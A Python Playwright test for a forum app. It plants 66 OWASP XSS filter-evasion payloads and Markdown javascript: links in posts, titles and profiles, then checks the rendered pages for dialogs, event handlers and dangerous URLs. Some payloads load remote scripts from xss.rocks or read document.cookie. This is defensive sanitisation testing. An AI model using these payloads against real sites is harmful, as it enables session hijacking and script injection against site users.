"""No markup a member wrote runs in another member's browser.

66 payloads from the OWASP XSS Filter Evasion Cheat Sheet (plus Markdown link tricks and two that
set a global directly) are put where members write:
- thread titles and posts, through the forum service (which refuses HTML with a message) AND
  straight into the database, body_html included (as if a row were written by something else:
  the page must clean it on the way out too);
- profile fields (name, business, bio, offers, looking for), through the profile service and,
  where the service refuses a value (too long), straight into the database.
Then Chromium renders the category list, the thread pages, the search results, the directory,
profiles and the staff report queue, for a member and for a visitor, mouses over and focuses every
element, listens for dialogs and for window.__xss, which every alert/confirm/prompt also sets (an
init script wraps them), and checks the DOM: no on* attributes, no javascript:/data:/vbscript: URLs, no
script/iframe/object/embed/base/meta/link/style elements inside the page's main content.
"""

import json

import pytest
from playwright.sync_api import expect
from sqlmodel import col, select

from hub_app.db import begin_write
from hub_app.domain import forum as rules
from hub_app.domain import markdown, validation
from hub_app.domain.errors import HubError, InvalidInput
from hub_app.domain.permissions import Actor
from hub_app.models import ForumCategory, ForumPost, ForumReport, ForumThread, User
from hub_app.models.base import utcnow
from hub_app.services import forum, profiles
from tests.browser.conftest import LAPTOP, PHONE, _page
from tests.browser.helpers import open_page, wait_for_app

pytestmark = pytest.mark.browser

SLUG = "xss-lab"
MARK = "xsslab"  # a word in every stored payload row, to search for them

# From the OWASP XSS Filter Evasion Cheat Sheet
# (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html).
OWASP = [
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039"
    "&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;"
    "&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53"
    "&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0c"
    "DovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" "
    "AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<img src=x onerror=alert(1)//",
]
# Markdown's own ways to a link, and payloads that set the global without a dialog.
MARKDOWN = [
    "[klik](javascript:alert(1))", "[klik](JaVaScRiPt:alert(1))", "[klik](javascript&#58;alert(1))",
    "![gambar](javascript:alert(1))", "<javascript:alert(1)>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))", "<img src=x onerror=\"window.__xss=1\">", "\"><svg onload=window.__xss=1>",
]
PAYLOADS = OWASP + MARKDOWN

GUARD = """
window.__xss = undefined;
for (const name of ['alert', 'confirm', 'prompt']) {
  const original = window[name];
  window[name] = function (...args) { window.__xss = name; return original.apply(this, args); };
}
"""
MAIN_CHECK = """() => {
  const ALLOWED = __ALLOWED__;
  const problems = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (name.startsWith('on')) problems.push(element.tagName + ' ' + name);
      if (['href', 'src', 'action', 'formaction', 'background', 'data', 'lowsrc', 'dynsrc'].includes(name)
          && /^(javascript|vbscript|data):/.test(value)) problems.push(element.tagName + ' ' + name + '=' + value);
      if (name === 'style' && /expression|javascript|url\\(/.test(value)) problems.push(element.tagName + ' style');
    }
  }
  const main = document.querySelector('main');
  for (const tag of ['script', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'style', 'frame', 'frameset',
                     'body', 'bgsound', 'applet', 'template']) {
    if (main && main.querySelector(tag)) problems.push('main contains <' + tag + '>');
  }
  // Inside a post's body only the tags Markdown produces.
  for (const element of document.querySelectorAll('.post-body *')) {
    if (!ALLOWED.includes(element.tagName.toLowerCase())) problems.push('post body contains <' + element.tagName + '>');
  }
  return problems;
}""".replace("__ALLOWED__", json.dumps(sorted(markdown.ALLOWED_TAGS)))
HOVER_ALL = """() => {
  for (const element of document.querySelectorAll('body *')) {
    for (const type of ['mouseover', 'mouseenter', 'mousemove']) {
      element.dispatchEvent(new MouseEvent(type, {bubbles: type !== 'mouseenter'}));
    }
    element.dispatchEvent(new FocusEvent('focus'));
    element.dispatchEvent(new FocusEvent('focusin', {bubbles: true}));
  }
}"""


def _arrange(portal) -> dict:
    """Stores every payload as titles, posts and profile fields; returns ids to visit."""
    staff = portal.make_user("xss.staff@xss.example", "Staf Lab", role="staff")
    reader = portal.make_user("xss.reader@xss.example", "Pembaca Lab")
    staff_actor = Actor(user_id=staff.id, role="staff", status="active")
    refused = {"title": 0, "post": 0, "profile": 0}
    members = [portal.make_user(f"xss{number}@xss.example", f"Anggota {MARK} {number}")
               for number in range(len(PAYLOADS))]
    authors: list[int] = []
    with portal.session() as session:
        # Every write here takes the write lock first (begin_write), and no read is left open before
        # a service call or a direct write (hence the rollbacks): a read then a write in one SQLite
        # transaction fails ("database is locked") when the running portal wrote in between.
        begin_write(session)
        category = session.exec(select(ForumCategory).where(ForumCategory.slug == SLUG)).first()
        if category is None:
            category = ForumCategory(slug=SLUG, name_id="Lab XSS", name_en="XSS lab", position=99)
            session.add(category)
            session.flush()
        category_id = category.id
        session.commit()
        for number, payload in enumerate(PAYLOADS):
            # A member whose profile fields are the payload (through the profile service first).
            member = members[number]
            form = {"name": payload[:100], "business_name": payload[:120], "bio": f"{MARK} {payload}",
                    "offers": f"{MARK} {payload}"[:500], "looking_for": payload[:500], "show_in_directory": True}
            actor = Actor(user_id=member.id, role="member", status="active")
            try:
                profiles.update_profile(actor, session=session, form=form)
            except HubError:
                refused["profile"] += 1
                session.rollback()
                begin_write(session)
                row = session.get(User, member.id)
                row.name, row.business_name, row.bio = payload[:100], payload[:120], f"{MARK} {payload}"[:1000]
                row.offers, row.looking_for = f"{MARK} {payload}"[:500], payload[:500]
                session.add(row)
                session.commit()
            authors.append(member.id)
            # Through the forum service: HTML is refused with a message, the rest is stored.
            session.rollback()
            try:
                forum.start_thread(staff_actor, session=session, slug=SLUG, title=f"{MARK} {payload}"[:150],
                                   body=f"{MARK} {payload}")
            except HubError:
                refused["title"] += 1
            # Straight into the database, as if written by something else: the page must clean it.
            session.rollback()
            begin_write(session)
            now = utcnow()
            thread = ForumThread(category_id=category_id, author_id=member.id, title=payload[:150],
                                 last_activity_at=now, created_at=now)
            session.add(thread)
            session.flush()
            session.add(ForumPost(thread_id=thread.id, author_id=member.id, body_source=payload, body_html=payload,
                                  body_text=f"{MARK} {payload}", search_title=payload[:150], is_opening=True,
                                  created_at=now))
            session.commit()
        # One long thread: every payload as a post body (raw HTML in the row), by the payload-named members.
        begin_write(session)
        now = utcnow()
        long_thread = ForumThread(category_id=category_id, author_id=staff.id, title=f"{MARK} semua payload",
                                  last_activity_at=now, created_at=now)
        session.add(long_thread)
        session.flush()
        posts = []
        for number, payload in enumerate(PAYLOADS):
            post = ForumPost(thread_id=long_thread.id, author_id=authors[number], body_source=payload,
                             body_html=payload, body_text=f"{MARK} {payload}", is_opening=number == 0,
                             created_at=now)
            session.add(post)
            posts.append(post)
        session.flush()
        for post in posts[:20]:  # the staff report queue shows excerpts and reasons
            session.add(ForumReport(post_id=post.id, reporter_id=reader.id, reason="other",
                                    note=PAYLOADS[post.id % len(PAYLOADS)][:500]))
        session.commit()
        try:
            forum.reply(staff_actor, session=session, thread_id=long_thread.id, body="<script>alert(1)</script>")
        except HubError:
            refused["post"] += 1
        return {"staff": staff, "reader": reader, "thread": long_thread.id, "authors": authors, "refused": refused}


def _has_markup(payload: str) -> bool:
    try:
        rules.check_no_markup(f"{MARK} {payload}"[:150], field="title")
    except InvalidInput:
        return True
    return markdown.has_raw_html(f"{MARK} {payload}")


class Watch:
    """Dialogs and the global, over a browser context."""

    def __init__(self, page):
        self.dialogs: list[str] = []
        page.context.add_init_script(GUARD)
        page.on("dialog", self._on_dialog)
        self.page = page

    def _on_dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self, where: str) -> None:
        page = self.page
        # Every element of the page is moused over and focused (the on* payloads, had they survived:
        # inline handlers run on dispatched events as on real ones, and any dialog is recorded).
        page.evaluate(HOVER_ALL)
        assert self.dialogs == [], f"{where}: dialogs {self.dialogs}"
        assert page.evaluate("() => window.__xss") is None, f"{where}: window.__xss was set"
        assert page.evaluate(MAIN_CHECK) == [], where

    def next_page(self, name: str, where: str) -> bool:
        """Clicks the list's button to its next page (if shown) and waits until the page shows
        other items; False when there is no next page."""
        page = self.page
        button = page.get_by_role("button", name=name)
        if button.count() == 0:
            return False
        shown = page.locator("main").inner_text()
        button.click()
        page.wait_for_function("shown => document.querySelector('main').innerText !== shown", arg=shown)
        self.check(where)
        return True


def _visit(watch: Watch, path: str, shot, name: str, *, expect_text: str = "") -> None:
    page = watch.page
    open_page(page, path)
    if expect_text:
        expect(page.locator("main")).to_contain_text(expect_text)
    watch.check(path)
    shot(page, name)


def test_no_member_markup_runs_in_another_members_browser(chromium, portal, shot):
    arranged = _arrange(portal)
    assert len(OWASP) >= 50
    # The forum service refused every payload whose title or body carries a tag, with a message.
    assert arranged["refused"]["title"] == sum(1 for payload in PAYLOADS if _has_markup(payload)) >= 50
    assert arranged["refused"]["post"] == 1
    # The profile service refused every payload with a tag (the row was then written directly).
    assert arranged["refused"]["profile"] == sum(1 for payload in PAYLOADS if validation._TAG.search(payload)) >= 50

    for who, viewport, locale in (("member", PHONE, "id-ID"), ("visitor", LAPTOP, "en-US")):
        context, page = _page(chromium, portal, viewport=viewport, locale=locale, mobile=viewport is PHONE)
        try:
            if who == "member":
                portal.sign_in(context, arranged["reader"])
            watch = Watch(page)
            # Category pages: every title, three pages of 20 and more.
            _visit(watch, f"/forum/{SLUG}", shot, f"xss-{who}-01-category", expect_text=MARK)
            for number in range(4):
                if not watch.next_page("Topik lainnya" if who == "member" else "More threads",
                                       f"/forum/{SLUG} page {number + 2}"):
                    break
            # The long thread: every payload as a raw body_html row, with payload-named authors.
            _visit(watch, f"/forum/t/{arranged['thread']}", shot, f"xss-{who}-02-thread", expect_text=MARK)
            for number in range(4):
                if not watch.next_page("Tulisan berikutnya" if who == "member" else "Next posts",
                                       f"thread page {number + 2}"):
                    break
            shot(page, f"xss-{who}-03-thread-last-page")
            # Single-payload threads (titles as headings, raw bodies).
            with portal.session() as session:
                thread_ids = session.exec(select(ForumThread.id).where(col(ForumThread.title).in_(
                    [payload[:150] for payload in PAYLOADS[::7]]))).all()
            for thread_id in thread_ids:
                open_page(page, f"/forum/t/{thread_id}")
                watch.check(f"/forum/t/{thread_id}")
            # Search results: titles and snippets as highlighted text.
            _visit(watch, f"/forum/search?q={MARK}", shot, f"xss-{who}-04-search")
            _visit(watch, "/forum/search?q=script+alert", shot, f"xss-{who}-05-search-script")
            if who == "member":
                # The directory and profiles: names, businesses, bios, offers, looking-for.
                _visit(watch, "/members", shot, "xss-member-06-directory", expect_text=MARK)
                for number in range(3):
                    if not watch.next_page("Anggota lainnya", f"/members page {number + 2}"):
                        break
                open_page(page, f"/members?query={MARK}")
                watch.check("/members?query")
                for member_id in arranged["authors"][::6]:
                    open_page(page, f"/members/{member_id}")
                    watch.check(f"/members/{member_id}")
                shot(page, "xss-member-07-profile")
        finally:
            context.close()

    # Staff: the report queue shows excerpts, reasons and reporters' notes.
    context, page = _page(chromium, portal, viewport=LAPTOP, locale="en-US", mobile=False)
    try:
        portal.sign_in(context, arranged["staff"])
        watch = Watch(page)
        open_page(page, "/admin/forum")
        wait_for_app(page)
        expect(page.get_by_test_id("report-item").first).to_be_visible()
        watch.check("/admin/forum")
        shot(page, "xss-staff-08-report-queue")
        open_page(page, f"/forum/t/{arranged['thread']}")
        watch.check("thread as staff")
    finally:
        context.close()
